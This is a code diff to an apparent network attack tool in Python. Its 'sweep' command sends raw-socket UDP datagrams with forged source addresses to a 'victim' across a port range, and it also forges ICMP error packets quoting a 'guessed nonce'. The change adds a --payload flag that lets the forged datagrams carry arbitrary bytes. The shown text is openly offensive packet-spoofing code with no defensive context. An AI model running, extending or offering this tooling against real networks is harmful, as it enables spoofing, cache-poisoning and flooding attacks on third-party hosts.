@@ -80,12 +80,13 @@ def sweep(args: argparse.Namespace) -> dict[str, object]:
         icmp_type, _, code = kind.partition("/")
         errors.append((int(port), int(icmp_type), int(code), sender or args.target))
     packets = 0
+    payload = bytes.fromhex(args.payload) if args.payload else b"forged"
     deadline = time.monotonic() + args.seconds
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
         while time.monotonic() < deadline:
             for port in range(low, high + 1):
                 for source in replies:
-                    raw.sendto(ip_udp_packet(args.target, source, args.victim, port, b"forged"), (args.victim, 0))
+                    raw.sendto(ip_udp_packet(args.target, source, args.victim, port, payload), (args.victim, 0))
                     packets += 1
                 for about, icmp_type, code, sender in errors:
                     quoted = ip_udp_packet(args.victim, port, args.target, about, bytes(8))[:36]  # a guessed nonce
@@ -240,6 +241,7 @@ def main() -> None:
     p.add_argument("--reply-from", default="")
     p.add_argument("--icmp-for", default="")
     p.add_argument("--seconds", type=float, default=3)
+    p.add_argument("--payload", default="", help="the forged datagrams' bytes, in hex (default: 'forged')")
     args = parser.parse_args()
     result = {"ask": ask, "send": send, "forge": forge, "group": group, "ports": ports, "dns": dns_load,
               "sweep": sweep}[args.cmd](args)
